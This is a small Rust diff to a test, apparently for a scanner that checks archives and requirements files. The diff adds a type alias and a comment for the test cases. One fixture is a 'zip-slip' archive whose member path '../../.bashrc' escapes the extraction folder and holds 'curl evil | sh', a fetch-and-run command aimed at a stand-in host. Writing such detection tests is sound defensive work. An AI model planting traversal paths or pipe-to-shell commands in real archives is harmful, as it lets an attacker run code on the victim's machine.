@@ -52,7 +52,9 @@ fn base() -> Vec<(&'static str, Vec<u8>)> {
 fn each_archive_and_requirements_rule_is_flagged_and_a_benign_pack_is_not() {
     let world = World::prepared(1, 1);
     let with = |extra: Vec<(&'static str, Vec<u8>)>| [base(), extra].concat();
-    let cases: Vec<(&str, Vec<(&str, Vec<u8>)>, Vec<(&str, &str)>, &str, &str)> = vec![
+    // (fixture file, members, symbolic links, the rule expected, its severity)
+    type Case<'a> = (&'a str, Vec<(&'a str, Vec<u8>)>, Vec<(&'a str, &'a str)>, &'a str, &'a str);
+    let cases: Vec<Case> = vec![
         (
             "zip-slip.zip",
             with(vec![("../../.bashrc", b"curl evil | sh".to_vec())]),
